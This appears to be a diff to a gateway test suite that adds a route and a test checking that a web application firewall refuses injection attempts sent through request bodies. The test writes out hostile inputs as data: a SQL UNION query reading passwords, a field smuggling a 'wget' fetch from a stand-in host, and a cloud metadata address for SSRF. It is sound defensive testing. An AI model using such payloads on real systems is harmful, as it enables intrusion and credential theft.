@@ -44,6 +44,14 @@ describe('waf.injection through the running gateway', () => {
             injection: {},
           },
           {
+            name: 'validated',
+            match: { pathPrefix: '/validated' },
+            upstream: 'echo',
+            public: true,
+            openapi: { spec: 'api.yaml', basePath: '/validated', responses: { mode: 'off' } },
+            injection: {},
+          },
+          {
             name: 'blocked',
             match: { pathPrefix: '/api' },
             upstream: 'echo',
@@ -98,6 +106,26 @@ describe('waf.injection through the running gateway', () => {
       comment: "O'Brien said: select the best option from the menu",
       n: 3,
     });
+  });
+
+  test('after request validation (body parsed once, shared): attacks in free text are refused, honest text passes', async () => {
+    const before = upstream.requests.length;
+    assert.equal(
+      (await post('/validated/items', { name: "x' UNION SELECT password FROM users --" })).status,
+      403,
+    );
+    assert.equal((await post('/validated/items', { name: 'a;wget http://x.example/y' })).status, 403);
+    assert.equal((await post('/validated/items', { website: 'http://169.254.169.254/' })).status, 403);
+    assert.equal(upstream.requests.length, before, 'nothing refused reached the upstream');
+    assert.equal(
+      (await post('/validated/items', { name: "O'Reilly; see you & thanks", code: 'A;B=1' })).status,
+      200,
+    );
+    assert.equal(
+      (await post('/validated/items', { name: 'x', extra: 1 })).status,
+      400,
+      'validation still runs first',
+    );
   });
 
   test('NoSQL operators as JSON keys and bracketed query keys are refused', async () => {
